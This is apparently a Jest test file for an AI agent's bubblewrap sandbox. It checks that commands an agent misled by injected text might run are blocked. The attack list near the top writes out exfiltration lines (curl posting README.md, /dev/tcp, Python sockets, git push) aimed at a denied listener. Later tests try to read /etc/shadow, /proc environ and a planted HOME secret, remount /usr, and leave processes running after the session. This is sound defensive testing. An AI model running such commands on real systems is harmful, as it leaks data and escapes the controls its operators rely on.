/**
 * The real box (bubblewrap) against what an agent told by injected text would try: every way out
 * to a listener on this machine that is not allowed, reading the runner's files, writing outside.
 * The listener must receive nothing; the allowed paths must work.
 */
import { jest } from '@jest/globals';
import { existsSync, mkdirSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { randomBytes } from 'node:crypto';
import { execSync } from 'node:child_process';
import { startBox } from '../../src/sandbox/box.js';
import type { CommandBox } from '../../src/sandbox/command-box.js';
import { parseHostRule, type HostRule } from '../../src/sandbox/host-rules.js';
import { createDefaultTools } from '../../src/tools/index.js';
import { createTempRepo, type TempRepo } from '../support/temp-repo.js';
import { toolContext } from '../support/tool-context.js';
import { describeWithBox, startListeners, type Listeners } from './box-support.js';

jest.setTimeout(60_000);

describeWithBox('the box', () => {
  let repo: TempRepo;
  let denied: Listeners;
  let allowed: Listeners;
  let box: CommandBox;
  const canary = randomBytes(8).toString('hex');
  const planted = path.join(os.homedir(), `.compact-agent-planted-${canary}`);

  beforeAll(async () => {
    repo = createTempRepo();
    denied = await startListeners();
    allowed = await startListeners();
    writeFileSync(planted, `secret-${canary}\n`);
    process.env.COMPACT_AGENT_ACTION_CANARY = `action-env-${canary}`;
    const rule = parseHostRule(`127.0.0.1:${allowed.httpPort}`, true) as HostRule;
    const start = await startBox({ workspace: repo.root, env: process.env, rules: [rule] });
    if (!start.ok) throw new Error(`the box did not start: ${start.reason}`);
    box = start.box;
  });

  afterAll(async () => {
    await box?.close();
    await denied?.close();
    await allowed?.close();
    rmSync(planted, { force: true });
    delete process.env.COMPACT_AGENT_ACTION_CANARY;
    repo?.remove();
  });

  const bash = async (command: string) => {
    const tools = createDefaultTools({ box });
    return tools.execute(
      { id: 'toolu_box', name: 'bash', input: { command, timeout_ms: 30_000 } },
      toolContext(repo.root)
    );
  };

  const attacks: ReadonlyArray<[string, (port: number, tcp: number, udp: number) => string]> = [
    ['curl', (port) => `curl -sS -m 5 -d @README.md http://127.0.0.1:${port}/curl`],
    ['curl without the proxy', (port) => `curl -sS -m 5 --noproxy '*' http://127.0.0.1:${port}/direct`],
    ['wget', (port) => `wget -q -T 5 -t 1 -O- http://127.0.0.1:${port}/wget`],
    [
      'node fetch',
      (port) =>
        `node -e "fetch('http://127.0.0.1:${port}/fetch',{method:'POST',body:'x'}).then(r=>console.log(r.status),e=>{console.error(e.cause?.code??e.message);process.exit(1)})"`
    ],
    [
      'python sockets',
      (_port, tcp) =>
        `python3 -c "import socket; s=socket.create_connection(('127.0.0.1',${tcp}),3); s.sendall(b'python')"`
    ],
    ['bash /dev/tcp', (_port, tcp) => `echo devtcp > /dev/tcp/127.0.0.1/${tcp}`],
    [
      'UDP',
      (_port, _tcp, udp) =>
        `python3 -c "import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'udp', ('127.0.0.1', ${udp}))"; echo udp > /dev/udp/127.0.0.1/${udp}`
    ],
    [
      'IPv6',
      (port) =>
        `curl -sS -m 5 -6 --noproxy '*' http://[::ffff:127.0.0.1]:${port}/v6 || curl -sS -m 5 -g http://[::1]:${port}/v6`
    ],
    [
      'git push over HTTP',
      (port) =>
        `git init -q /tmp/push && cd /tmp/push && git -c user.email=a@b -c user.name=a commit -q --allow-empty -m x && git push http://127.0.0.1:${port}/repo.git HEAD:main`
    ]
  ];

  test.each(attacks)('%s does not reach a listener that is not allowed', async (_name, attack) => {
    const result = await bash(attack(denied.httpPort, denied.tcpPort, denied.udpPort));
    // A UDP send "succeeds" locally whatever happens: only the listener can tell.
    await new Promise((resolve) => setTimeout(resolve, 200));
    expect(denied.hits).toEqual([]);
    expect(result.content).not.toContain('listener got it');
  });

  test('a refused host is named to the model, with the input that allows it', async () => {
    const result = await bash(`curl -sS -m 5 http://127.0.0.1:${denied.httpPort}/named`);
    expect(result.isError).toBe(true);
    expect(result.content).toContain(`127.0.0.1:${denied.httpPort}`);
    expect(result.content).toContain('sandbox_allow_hosts');
    expect(result.sandboxBlocked).toEqual([
      { host: '127.0.0.1', port: denied.httpPort, reason: 'not on the allowed hosts' }
    ]);
    expect(box.blockedAttempts().find((attempt) => attempt.port === denied.httpPort)?.count).toBeGreaterThan(
      0
    );
  });

  test('DNS finds nothing: no name resolves in the box', async () => {
    const result = await bash(
      'getent hosts example.com || python3 -c "import socket; print(socket.gethostbyname(\'example.com\'))"'
    );
    expect(result.isError).toBe(true);
    expect(result.content).not.toMatch(/\d+\.\d+\.\d+\.\d+/);
  });

  test('a file planted in the real HOME cannot be read', async () => {
    const result = await bash(`cat ${planted}; test -e ${planted} && echo FOUND-IT`);
    expect(result.content).not.toContain(`secret-${canary}`);
    expect(result.content).not.toContain('FOUND-IT');
  });

  test("the action's /proc entry and environment are out of sight", async () => {
    const result = await bash(
      `cat /proc/${process.pid}/environ; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n' | grep CANARY; ls /proc | grep -c '^[0-9]'`
    );
    expect(result.content).not.toContain(`action-env-${canary}`);
    const processes = Number(/--- stdout ---\n(?:.*\n)*?(\d+)\n/.exec(result.content)?.[1] ?? '999');
    expect(processes).toBeLessThan(10);
  });

  test('writes land only in the workspace and the scratch HOME and /tmp', async () => {
    const outside = path.join(os.tmpdir(), `compact-agent-outside-${canary}`);
    const result = await bash(
      `touch /usr/x-${canary}; touch /etc/x-${canary}; touch ${outside}; touch ~/inside /tmp/inside ./inside && echo wrote`
    );
    expect(result.content).toContain('wrote');
    expect(existsSync(outside)).toBe(false);
    expect(existsSync(`/usr/x-${canary}`)).toBe(false);
    expect(existsSync(`/etc/x-${canary}`)).toBe(false);
    expect(existsSync(path.join(os.homedir(), 'inside'))).toBe(false);
    expect(existsSync(path.join(repo.root, 'inside'))).toBe(true);
  });

  test('root-only files of the runner (/etc/shadow) show nothing, even to uid 0', async () => {
    const result = await bash('cat /etc/shadow /etc/gshadow');
    expect(result.content).not.toMatch(/^root:/m);
  });

  test('capabilities are dropped: a read-only folder cannot be remounted', async () => {
    const result = await bash('grep CapEff /proc/self/status; mount -o remount,rw /usr && echo REMOUNTED');
    expect(result.content).toContain('CapEff:\t0000000000000000');
    expect(result.content).not.toContain('REMOUNTED');
  });

  test('a request to an allowed host goes through the proxy and arrives', async () => {
    const result = await bash(`curl -sS -m 5 http://127.0.0.1:${allowed.httpPort}/allowed`);
    expect(result.content).toContain('listener got it');
    expect(allowed.hits).toContain('http GET /allowed');
  });

  test('npm test of a tiny package in the workspace runs', async () => {
    mkdirSync(path.join(repo.root, 'tiny'));
    writeFileSync(
      path.join(repo.root, 'tiny', 'package.json'),
      JSON.stringify({ name: 'tiny', version: '1.0.0', scripts: { test: 'node test.js' } })
    );
    writeFileSync(path.join(repo.root, 'tiny', 'test.js'), "console.log('tiny tests pass');\n");
    const result = await bash('cd tiny && npm test');
    expect(result.content).toContain('exit code: 0');
    expect(result.content).toContain('tiny tests pass');
  });

  test('what a command leaves running ends with it (the PID namespace)', async () => {
    const tag = `box-bg-${canary}`;
    const started = await bash(
      `(exec -a ${tag} sleep 300) & disown; setsid nohup bash -c 'exec -a ${tag} sleep 301' & echo started`
    );
    expect(started.content).toContain('started');
    const onHost = execSync(`ps -eo args | grep -v grep | grep -c '^${tag}' || true`, { encoding: 'utf8' });
    expect(onHost.trim()).toBe('0');
  });

  test('a command that times out is killed with everything it started', async () => {
    const tag = `box-timeout-${canary}`;
    const tools = createDefaultTools({ box });
    const started = Date.now();
    const result = await tools.execute(
      {
        id: 'toolu_timeout',
        name: 'bash',
        input: {
          command: `(exec -a ${tag} sleep 300) & setsid bash -c 'exec -a ${tag} sleep 301' & sleep 300`,
          timeout_ms: 1500
        }
      },
      toolContext(repo.root)
    );
    expect(result.content).toContain('timed out (killed)');
    expect(Date.now() - started).toBeLessThan(10_000);
    const onHost = execSync(`ps -eo args | grep -v grep | grep -c '^${tag}' || true`, { encoding: 'utf8' });
    expect(onHost.trim()).toBe('0');
  });
});
